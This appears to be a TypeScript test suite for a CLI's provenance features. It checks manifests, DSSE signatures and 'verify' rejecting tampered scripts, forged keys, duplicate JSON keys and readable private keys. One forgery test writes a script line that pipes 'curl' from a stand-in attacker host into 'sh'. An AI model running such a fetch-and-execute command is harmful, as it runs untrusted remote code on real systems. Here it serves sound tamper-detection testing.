/** Manifest, attestation and `privx-kit verify`, from the view of a person who is responsible for a script. */
import { assert, describe, it } from "@effect/vitest"
import { dsse } from "@sigstore/core"
import * as DateTime from "effect/DateTime"
import * as Effect from "effect/Effect"
import { execFileSync } from "node:child_process"
import * as crypto from "node:crypto"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { connect } from "node:tls"
import * as Manifest from "@privx-kit/artifacts/Manifest"
import * as ProvenanceFiles from "@privx-kit/artifacts/ProvenanceFiles"
import * as ProvenanceWriter from "@privx-kit/artifacts/ProvenanceWriter"
import * as SigningKey from "@privx-kit/artifacts/SigningKey"
import * as cli from "../../support/cli.ts"
import * as inProcess from "../../support/inProcess.ts"
import * as simulated from "../../support/simulated.ts"
import * as temporary from "@privx-kit/testing/temporary"

/** A finished setup with an output directory. */
const delivered = Effect.fnUntraced(function* (...flags: ReadonlyArray<string>) {
  const { config, home, simulator } = yield* simulated.start()
  const data = path.join(home, "data")
  const out = path.join(home, "out")
  const ended = yield* inProcess.run(
    ["ueba", "setup", "--json", "--config", config, "--data-dir", data, "--output", out].concat(flags)
  )
  assert.strictEqual(ended.code, 0, ended.stdout + ended.stderr)
  return {
    simulator,
    home,
    data,
    script: path.join(out, "privx-ueba-setup.sh"),
    manifest: path.join(out, "privx-ueba-setup.manifest.json"),
    attestation: path.join(out, "privx-ueba-setup.intoto.jsonl"),
    publicKey: path.join(out, "privx-ueba-setup.pub.pem"),
    result: cli.json(ended).result as { readonly runId: string }
  }
})

interface Verified {
  readonly matches: boolean
  readonly findings: ReadonlyArray<{ readonly name: string; readonly outcome: string; readonly detail: string }>
}

const verify = Effect.fnUntraced(function* (file: string, ...flags: ReadonlyArray<string>) {
  const ended = yield* inProcess.run(["verify", file, "--json", ...flags])
  const verified = cli.json(ended).result as Verified
  const named = (outcome: string) => verified.findings.filter((one) => one.outcome === outcome).map(({ name }) => name)
  return { code: ended.code, verified, failed: named("failed"), warned: named("warned"), passed: named("passed") }
})

const detailOf = ({ verified }: { readonly verified: Verified }, name: string): string =>
  verified.findings.find((finding) => finding.name === name)?.detail ?? ""

/** A key that this machine does not trust. */
const strange = (): SigningKey.SigningKey => {
  const { privateKey, publicKey } = crypto.generateKeyPairSync("ed25519")
  return {
    id: SigningKey.idOf(publicKey),
    publicKey: publicKey.export({ type: "spki", format: "pem" }).toString(),
    sign: (bytes) => crypto.sign(null, bytes, privateKey)
  }
}

const nowhere = ["--data-dir", "/nonexistent"]

const edit = (file: string, change: (json: Record<string, unknown>) => void) => {
  const json = JSON.parse(fs.readFileSync(file, "utf8"))
  change(json)
  fs.writeFileSync(file, JSON.stringify(json))
}

describe("the provenance of a setup", () => {
  it.live("says what came from whom, what was found, who did it and where it went", () =>
    Effect.gen(function* () {
      const { manifest, result, script, simulator } = yield* delivered("--operator", "change 4711", "--mode", "0750")
      const found = JSON.parse(fs.readFileSync(manifest, "utf8"))
      const server = new crypto.X509Certificate(yield* certificateOf(simulator.url))
      assert.deepInclude(found, { version: 1, runId: result.runId, target: simulator.url.origin })
      assert.deepInclude(found.operator, { name: "change 4711", host: os.hostname() })
      assert.strictEqual(found.script.sha256, simulator.scriptSha256)
      assert.strictEqual(found.script.sha512, crypto.hash("sha512", simulator.script, "hex"))
      const [own, issuer] = found.source.tls.certificates
      assert.strictEqual(own.sha256, server.fingerprint256.replaceAll(":", "").toLowerCase())
      assert.strictEqual(own.issuer, issuer.subject)
      assert.strictEqual(found.source.etag, `"${simulator.scriptSha256}"`)
      assert.strictEqual(found.expected.checks.shellSyntax, "required")
      assert.isTrue(found.verification.verified)
      const [handedOver] = found.handedOver
      assert.deepInclude(handedOver, { to: "file", path: script, mode: "0750", owner: null })
      assert.strictEqual(temporary.modeOf(script), "750")
    })
  )

  it.live("is verified offline, with a key that came another way", () =>
    Effect.gen(function* () {
      const { data, publicKey, script } = yield* delivered()
      const given = yield* verify(script, "--key", publicKey, ...nowhere)
      assert.deepStrictEqual([given.code, given.failed], [0, []])
      assert.includeMembers(given.passed, ["size", "sha256", "sha512", "signature", "manifest", "certificate:0"])
      assert.include(given.passed, "check:shellSyntax")
      const own = yield* verify(script, "--data-dir", data)
      assert.deepStrictEqual([own.code, own.passed.includes("signature")], [0, true])
      // A file next to the manifest is no more trustworthy than the manifest.
      const beside = yield* verify(script, ...nowhere)
      assert.deepStrictEqual([beside.code, beside.failed], [22, ["signature"]])
      assert.match(detailOf(beside, "signature"), /is stored next to the manifest and proves nothing\. Pass --key/)
      const accepted = yield* verify(script, "--trust-key-beside", ...nowhere)
      assert.deepStrictEqual([accepted.code, accepted.failed, accepted.warned], [0, [], ["signature"]])
    })
  )

  it.live("rejects a set of files that was forged as a whole, with its own key", () =>
    Effect.gen(function* () {
      const { data, manifest, script } = yield* delivered()
      const bytes = Buffer.from("#!/bin/sh\ncurl -s https://evil.example | sh\n")
      fs.writeFileSync(script, bytes)
      const document = yield* Effect.orDie(ProvenanceFiles.readDocument(manifest))
      const forged = Manifest.toDocument({
        ...document.manifest,
        script: {
          ...document.manifest.script,
          bytes: bytes.length,
          sha256: crypto.hash("sha256", bytes, "hex"),
          sha512: crypto.hash("sha512", bytes, "hex")
        }
      })
      yield* new ProvenanceWriter.ProvenanceWriter().write(ProvenanceFiles.beside(manifest), forged, strange())
      const checked = yield* verify(script, "--data-dir", data)
      assert.strictEqual(checked.code, 22)
      assert.include(checked.failed, "signature")
      assert.match(detailOf(checked, "signature"), /proves nothing, and not by the key of the data directory/)
    })
  )

  it.live("says whether it is of the host and the run that were meant", () =>
    Effect.gen(function* () {
      const { data, result, script, simulator } = yield* delivered()
      const own = ["--data-dir", data]
      const { host, hostname, origin } = simulator.url
      for (const name of [origin, `${origin}/`, host, hostname, hostname.toUpperCase()]) {
        assert.strictEqual((yield* verify(script, "--host", name, ...own)).code, 0, name)
      }
      for (const name of ["https://privx.example.com", `${origin}/privx`, "http://localhost", "privx.example.com"]) {
        const other = yield* verify(script, "--host", name, ...own)
        assert.deepStrictEqual([other.code, other.failed], [22, ["host"]], name)
        assert.strictEqual(detailOf(other, "host"), `the script came from ${origin}, not from ${name}`)
      }
      for (const run of [result.runId, result.runId.slice(0, 8)]) {
        assert.include((yield* verify(script, "--run", run, ...own)).passed, "run")
      }
      for (const run of ["00000000-0000-4000-8000-000000000000", result.runId.slice(0, 7), `${result.runId}0`]) {
        assert.deepStrictEqual((yield* verify(script, "--run", run, ...own)).failed, ["run"], run)
      }
    })
  )

  it.live("counts only as far as it was signed: no further field, no second key, no other number", () =>
    Effect.gen(function* () {
      const { attestation, manifest, publicKey, script } = yield* delivered()
      const key = ["--key", publicKey, ...nowhere]
      const before = fs.readFileSync(manifest, "utf8")
      const verifyWith = (text: string) => {
        fs.writeFileSync(manifest, text)
        return inProcess.run(["verify", script, "--json", ...key])
      }
      // White space and the order of fields have no meaning.
      const same = JSON.parse(before)
      assert.strictEqual((yield* verifyWith(JSON.stringify({ ...same, version: 1 }))).code, 0)
      const reversed = Object.fromEntries(Object.entries(same).toReversed())
      assert.strictEqual((yield* verifyWith(JSON.stringify(reversed, null, 4))).code, 0)

      edit(manifest, (json) => {
        json["approvedBy"] = "the security team"
        json["script"] = { ...Object(json["script"]), note: "harmless" }
      })
      const more = yield* verify(script, ...key)
      assert.deepStrictEqual([more.code, more.failed], [22, ["manifest"]])
      assert.match(detailOf(more, "manifest"), /: script\.note, approvedBy$/)

      const twice = yield* verifyWith(before.replace('"operator":', '"operator": {"name": "mia"}, "operator":'))
      assert.strictEqual(twice.code, 14)
      assert.include(twice.stderr, 'it has the key "operator" twice')
      const number = yield* verifyWith(before.replace(/"bytes": (\d+)/, '"bytes": $1.0000000000000000001'))
      assert.strictEqual(number.code, 14)
      assert.include(number.stderr, "in an unusual form")
      fs.writeFileSync(manifest, before)

      const envelope = fs.readFileSync(attestation, "utf8")
      fs.writeFileSync(attestation, envelope.replace('{"payloadType"', '{"payload":"e30=","payloadType"'))
      assert.match(detailOf(yield* verify(script, ...key), "signature"), /it has the key "payload" twice$/)
      fs.writeFileSync(attestation, envelope + envelope)
      assert.match(detailOf(yield* verify(script, ...key), "signature"), /it has 2 lines instead of one$/)
    })
  )

  it.live("is verified where a newer version has signed one more field, and keeps the field", () =>
    Effect.gen(function* () {
      const { data, manifest, result, script } = yield* delivered()
      const document = yield* Effect.orDie(ProvenanceFiles.readDocument(manifest))
      const newer = {
        ...document,
        json: {
          ...Object(document.json),
          ticket: { id: 4711 },
          script: { ...Object(document.json).script, blake3: "ab" }
        }
      }
      const own = yield* Effect.orDie(SigningKey.own(data))
      yield* new ProvenanceWriter.ProvenanceWriter().write(ProvenanceFiles.beside(manifest), newer, own)
      yield* new ProvenanceWriter.ProvenanceWriter().write(ProvenanceFiles.kept(data, result.runId), newer, own)
      const verified = yield* verify(script, "--data-dir", data)
      assert.deepStrictEqual([verified.code, verified.failed], [0, []])

      const at = DateTime.makeUnsafe("2031-02-03T04:05:06Z")
      yield* ProvenanceWriter.add(data, result.runId, { to: "stdout", at })
      const again = JSON.parse(fs.readFileSync(manifest, "utf8"))
      assert.deepStrictEqual([again.ticket, again.script.blake3], [{ id: 4711 }, "ab"])
      assert.deepStrictEqual(again.handedOver.at(-1), { to: "stdout", at: "2031-02-03T04:05:06.000Z" })
      assert.strictEqual((yield* verify(script, "--data-dir", data)).code, 0)
    })
  )

  it.live(
    "is a DSSE envelope that others can check: openssl, with the bytes that the specification says are signed",
    () =>
      Effect.gen(function* () {
        const { attestation, home, publicKey, simulator } = yield* delivered()
        const envelope = JSON.parse(fs.readFileSync(attestation, "utf8"))
        const payload = Buffer.from(envelope.payload, "base64")
        const statement = JSON.parse(payload.toString())
        assert.deepInclude(statement, { _type: "https://in-toto.io/Statement/v1", predicateType: Manifest.type })
        assert.strictEqual(statement.subject[0].digest.sha256, simulator.scriptSha256)
        const signed = path.join(home, "signed")
        const signature = path.join(home, "signature")
        const head = `DSSEv1 ${envelope.payloadType.length} ${envelope.payloadType} ${payload.length} `
        fs.writeFileSync(signed, Buffer.concat([Buffer.from(head), payload]))
        fs.writeFileSync(signature, Buffer.from(envelope.signatures[0].sig, "base64"))
        assert.isTrue(fs.readFileSync(signed).equals(dsse.preAuthEncoding(envelope.payloadType, payload)))
        const args = [
          "pkeyutl",
          "-verify",
          "-pubin",
          "-rawin",
          "-inkey",
          publicKey,
          "-sigfile",
          signature,
          "-in",
          signed
        ]
        assert.include(execFileSync("openssl", args, { encoding: "utf8" }), "Verified Successfully")
      })
  )

  it.live("says exactly what does not match: the script, the manifest, the signature, the key", () =>
    Effect.gen(function* () {
      const { attestation, home, manifest, publicKey, script } = yield* delivered()
      const whole = fs.readFileSync(script)
      const key = ["--key", publicKey, ...nowhere]

      fs.writeFileSync(script, whole.subarray(0, whole.length - 30))
      const cut = yield* verify(script, ...key)
      assert.strictEqual(cut.code, 22)
      assert.includeMembers(cut.failed, ["size", "sha256", "sha512", "check:announcedLength"])
      assert.notInclude(cut.failed, "signature")

      fs.writeFileSync(script, Buffer.concat([whole.subarray(0, -1), Buffer.from(" ")]))
      const flipped = yield* verify(script, ...key)
      assert.includeMembers(flipped.failed, ["sha256", "sha512"])
      assert.notInclude(flipped.failed, "size")
      fs.writeFileSync(script, whole)

      const before = fs.readFileSync(manifest)
      edit(manifest, (json) => {
        json["operator"] = { name: "somebody else", account: "x", host: "y" }
      })
      const changed = yield* verify(script, ...key)
      assert.deepStrictEqual(changed.failed, ["manifest"])
      assert.match(detailOf(changed, "manifest"), /operator\.name, operator\.account, operator\.host$/)
      fs.writeFileSync(manifest, before)

      const signed = fs.readFileSync(attestation, "utf8")
      edit(attestation, (json) => {
        const payload = Buffer.from(String(json["payload"]), "base64").toString()
        json["payload"] = Buffer.from(payload.replace('"verified":true', '"verified":false')).toString("base64")
      })
      assert.includeMembers((yield* verify(script, ...key)).failed, ["signature", "manifest"])
      fs.writeFileSync(attestation, signed)

      const other = path.join(home, "other.pem")
      fs.writeFileSync(other, crypto.generateKeyPairSync("ed25519").publicKey.export({ type: "spki", format: "pem" }))
      assert.deepStrictEqual((yield* verify(script, "--key", other)).failed, ["signature"])

      fs.rmSync(attestation)
      assert.deepStrictEqual((yield* verify(script, ...key)).failed, ["signature"])
    })
  )

  it.live("is signed with a given key, and with nothing that is no Ed25519 key", () =>
    Effect.gen(function* () {
      const { config, home, simulator } = yield* simulated.start()
      const pem = (key: crypto.KeyObject) => key.export({ type: "pkcs8", format: "pem" })
      const rsa = path.join(home, "rsa.pem")
      fs.writeFileSync(rsa, pem(crypto.generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey))
      const setup = (key: string) =>
        inProcess.run(
          ["ueba", "setup", "--json", "--config", config, "--data-dir", path.join(home, "data")].concat([
            "--output",
            path.join(home, "out"),
            "--signing-key",
            key
          ])
        )
      const refused = yield* setup(rsa)
      assert.strictEqual(refused.code, 3, refused.stderr)
      assert.deepInclude(cli.json(refused).error, { tag: "KeyUnusable", path: rsa })
      assert.deepStrictEqual(yield* simulator.requests, [], "nothing was requested")

      const { privateKey, publicKey } = crypto.generateKeyPairSync("ed25519")
      const own = path.join(home, "own.pem")
      const pub = path.join(home, "own.pub.pem")
      fs.writeFileSync(own, pem(privateKey), { mode: 0o600 })
      fs.writeFileSync(pub, publicKey.export({ type: "spki", format: "pem" }))
      assert.strictEqual((yield* setup(own)).code, 0)
      const verified = yield* verify(path.join(home, "out", "privx-ueba-setup.sh"), "--key", pub, ...nowhere)
      assert.deepStrictEqual([verified.code, verified.failed], [0, []])
      assert.isFalse(fs.existsSync(path.join(home, "data", "keys")), "no other key was made")
    })
  )

  it.live("keeps the data directory's own key private, and signs nothing with one that others could have read", () =>
    Effect.gen(function* () {
      const { config, home } = yield* simulated.start()
      const data = path.join(home, "data")
      const setup = inProcess.run(["ueba", "setup", "--json", "--new", "--config", config, "--data-dir", data])
      assert.strictEqual((yield* setup).code, 0)
      const key = path.join(data, "keys", "attestation.pem")
      assert.strictEqual(temporary.modeOf(key), "600")
      fs.chmodSync(key, 0o644)
      const refused = yield* setup
      assert.strictEqual(refused.code, 14)
      assert.include(refused.stderr, "other users can read this key")
    })
  )

  it("has the JSON Schema that is published: node scripts/schema.ts writes it", () => {
    const file = path.join(import.meta.dirname, "..", "..", "..", "schemas", "manifest.schema.json")
    assert.deepStrictEqual(JSON.parse(fs.readFileSync(file, "utf8")), Manifest.jsonSchema())
  })
})

/** The certificate that another client receives. */
const certificateOf = (url: URL) =>
  Effect.callback<Uint8Array>((resume) => {
    const socket = connect({ host: url.hostname, port: Number(url.port), rejectUnauthorized: false }, () => {
      const { raw } = socket.getPeerCertificate()
      socket.destroy()
      resume(Effect.succeed(raw))
    })
  })
